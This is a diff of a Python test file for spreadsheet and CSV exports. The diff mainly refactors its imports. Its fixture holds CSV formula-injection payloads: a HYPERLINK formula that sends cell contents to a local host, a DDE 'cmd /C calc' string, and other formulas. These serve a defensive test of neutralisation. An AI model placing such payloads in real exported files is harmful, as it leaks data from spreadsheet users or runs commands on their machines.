@@ -9,10 +9,10 @@ import openpyxl
 import pandas as pd
 import pytest
 
-from models import exports, store
+from models import exports, interviews, scans
 from models.auth import LOCAL
 from models.cells import csv_bytes, neutralise
-from tests.models.test_quotes import ANALYST, add_fragments, code_fragment
+from tests.factories import ANALYST, add_fragments, code_fragment
 
 HOSTILE_ROLE = '=HYPERLINK("http://127.0.0.1:8998/?d="&A2,"klik")'
 HOSTILE_TITLE = "@SUM(1+1)*cmd|' /C calc'!A0"
@@ -22,9 +22,9 @@ HOSTILE_ANSWER = "+31 6 is mijn nummer. -2+3 rekent de spreadsheet uit. Dat moet
 
 @pytest.fixture
 def hostile_scan(db):
-    scan_id = store.create_scan(db, LOCAL, name="Formules", organisation="Gemeente =1+1", kind="gemeente")
-    person = store.add_respondent(db, LOCAL, scan_id, role=HOSTILE_ROLE, department=HOSTILE_DEPARTMENT)
-    interview_id = store.create_interview(
+    scan_id = scans.create_scan(db, LOCAL, name="Formules", organisation="Gemeente =1+1", kind="gemeente")
+    person = scans.add_respondent(db, LOCAL, scan_id, role=HOSTILE_ROLE, department=HOSTILE_DEPARTMENT)
+    interview_id = interviews.create_interview(
         db,
         LOCAL,
         scan_id,
@@ -34,7 +34,7 @@ def hostile_scan(db):
         interviewer="\r=2*3",
         participant_ids=[person.id],
     )
-    turn = store.add_turn(
+    turn = interviews.add_turn(
         db, LOCAL, interview_id, kind="answer", text=HOSTILE_ANSWER, speaker_role="respondent", respondent_id=person.id
     )
     for fragment_id in add_fragments(db, turn, scan_id, interview_id):
